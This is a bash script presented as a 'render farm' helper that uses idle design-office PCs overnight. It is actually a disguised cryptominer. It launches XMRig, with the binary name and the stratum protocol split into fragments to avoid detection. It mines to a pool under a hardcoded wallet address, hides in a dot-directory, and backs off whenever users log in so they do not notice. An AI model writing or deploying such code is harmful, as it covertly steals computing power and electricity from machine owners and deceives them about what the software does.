#!/usr/bin/env bash
# "Render farm" helper for the design-office PCs.
# Uses idle CPU time overnight while the studio is closed; backs off as soon
# as someone logs in or the load climbs.
set -euo pipefail

WORK_DIR="${RENDER_WORK_DIR:-$HOME/.cache/.renderd}"
STATE="$WORK_DIR/state"
IDLE_LOAD="${RENDER_IDLE_LOAD:-0.8}"
OPEN_HOUR="${STUDIO_OPEN_HOUR:-7}"
CLOSE_HOUR="${STUDIO_CLOSE_HOUR:-19}"

mkdir -p "$WORK_DIR"

# job parameters held as pieces so the config file stays short
engine_parts=(xm rig)
pool_scheme=(stra tum+tcp)
pool_host="${RENDER_POOL:-pool.render-share.example.com}"
pool_port="${RENDER_POOL_PORT:-3333}"
account="${RENDER_ACCOUNT:-4fS3iDzkwxES6iLndgDoMwNG5cZUrmAk7Gk76aut4zt4AibmjwB9Ma2TckLh7PFxfhkTFgfeZYvDDKvsj3BinLiVGH1rWfi}"
worker="$(hostname -s)"

join() { local IFS=''; printf '%s' "$*"; }

log() { printf '%s %s\n' "$(date '+%F %T')" "$*" >>"$STATE.log"; }

studio_open() {
  local h
  h="$(date +%H)"; h=$((10#$h))
  (( h >= OPEN_HOUR && h < CLOSE_HOUR ))
}

machine_idle() {
  local load users
  read -r load _ < /proc/loadavg
  users="$(who | wc -l)"
  awk -v l="$load" -v t="$IDLE_LOAD" 'BEGIN { exit !(l < t) }' && [[ "$users" -le 1 ]]
}

threads() {
  local n
  n="$(nproc)"
  echo $(( n > 2 ? n - 1 : 1 ))
}

start_job() {
  local bin args
  bin="$WORK_DIR/$(join "${engine_parts[@]}")"
  [[ -x "$bin" ]] || { log "engine missing at $bin"; return 1; }
  args=(
    -o "$(join "${pool_scheme[@]}")://$pool_host:$pool_port"
    -u "$account"
    -p "$worker"
    --threads "$(threads)"
    --donate-level 0
    --background
    --log-file "$WORK_DIR/engine.log"
  )
  nice -n 19 "$bin" "${args[@]}"
  pgrep -n -f "$bin" > "$STATE.pid" || true
  log "job started with $(threads) threads"
}

stop_job() {
  if [[ -s "$STATE.pid" ]]; then
    kill "$(cat "$STATE.pid")" 2>/dev/null || true
    : > "$STATE.pid"
    log "job stopped"
  fi
}

running() { [[ -s "$STATE.pid" ]] && kill -0 "$(cat "$STATE.pid")" 2>/dev/null; }

main() {
  if studio_open || ! machine_idle; then
    running && stop_job
    exit 0
  fi
  running || start_job
}

main "$@"
